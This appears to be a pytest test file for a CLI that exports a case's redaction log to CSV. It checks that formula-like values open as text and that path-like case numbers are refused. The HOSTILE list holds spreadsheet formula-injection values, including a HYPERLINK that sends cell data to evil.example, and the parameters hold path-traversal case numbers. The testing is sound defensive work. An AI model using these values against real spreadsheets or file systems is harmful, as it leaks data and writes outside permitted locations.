"""The redaction log: `innsyn review log` and the case's own redaction_log.csv.

A real DuckDB file holds one case whose items carry ids from the school system and reasons
typed by a reviewer, some of which begin like a spreadsheet formula. `innsyn review log`
runs as the installed command (it never needs Prefect). The CSV must open in a spreadsheet as
text, never as a formula; a case number that is not a case is bad input, and nothing is
written for it, inside `out/` or anywhere else.
"""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from conftest import FIXED_NOW, innsyn, insert_case
from innsyn import db as innsyn_db

NO_PREFECT = "http://127.0.0.1:9/api"  # nothing answers here: the log never needs Prefect
BASIS = "offentleglova § 13 første ledd, jf. forvaltningsloven § 13 første ledd nr. 1"

# (student_id from the school system, override reason from a reviewer): what a spreadsheet
# would run as a formula, and what it would not
HOSTILE = [
    ("=E1", '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")'),
    ("+E2", "+47 412 34 567"),
    ("-E3", "-2+3"),
    ("@E4", "@SUM(A1:A9)"),
    ("E5", "\t=1+1"),
    ("E6", "\r=1+1"),
]
HARMLESS = [("E7", "Institusjonen er nedlagt"), ("E8", "Navnet er 'ukjent' = greit")]


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    """A database with one case, 2026-1, and a withheld item overridden for every reason above."""
    with innsyn_db.open_db(tmp_path / "innsyn.duckdb") as con:
        innsyn_db.init_schema(con)
        insert_case(con, "2026-1", "2026-11-23T09:15:00+01:00")
        for n, (student_id, reason) in enumerate(HOSTILE + HARMLESS):
            con.execute(
                """INSERT INTO case_items (case_id, item_id, class_id, student_id, guardian_id, field, value,
                       sort_key, decision, rule, legal_basis, consent_state, decided_by, decided_at,
                       override_reason)
                   VALUES ('2026-1', ?, 'S001-5B', ?, NULL, 'pupil_name', 'Kanari', 'x', 'withhold',
                           'fortrolig_adresse', ?, 'overridden', 'reviewer:Lise Jurist', ?, ?)""",
                [f"item-{n}", student_id, BASIS, FIXED_NOW, reason],
            )
    return tmp_path


def assert_refused(result, message: str) -> None:
    assert result.returncode == 2, result.stderr + result.stdout
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("innsyn: error: ") and message in lines[0], result.stderr
    assert "Traceback" not in result.stderr and result.stdout == ""


# ----------------------------------------------------------------------------- bad --case


@pytest.mark.parametrize("case", ["x/../../..", "x/../../../../escaped", "../2026-1", "/tmp/2026-1"])
def test_a_case_number_that_is_a_path_is_refused_and_nothing_is_written_anywhere(workdir, case):
    before = (workdir / "innsyn.duckdb").read_bytes()
    mode = stat.S_IMODE(workdir.stat().st_mode)
    files = sorted(os.listdir(workdir))

    result = innsyn(workdir, NO_PREFECT, "review", "log", "--case", case)

    assert_refused(result, f"--case: unknown case {case!r}")
    assert sorted(os.listdir(workdir)) == files  # no out/, no escaped.csv beside it
    assert stat.S_IMODE(workdir.stat().st_mode) == mode  # and no folder made owner-only
    assert (workdir / "innsyn.duckdb").read_bytes() == before


def test_an_unknown_case_is_refused_not_exported_as_an_empty_log(workdir):
    result = innsyn(workdir, NO_PREFECT, "review", "log", "--case", "2026-9999")

    assert_refused(result, "--case: unknown case '2026-9999'")
    assert not (workdir / "out").exists()
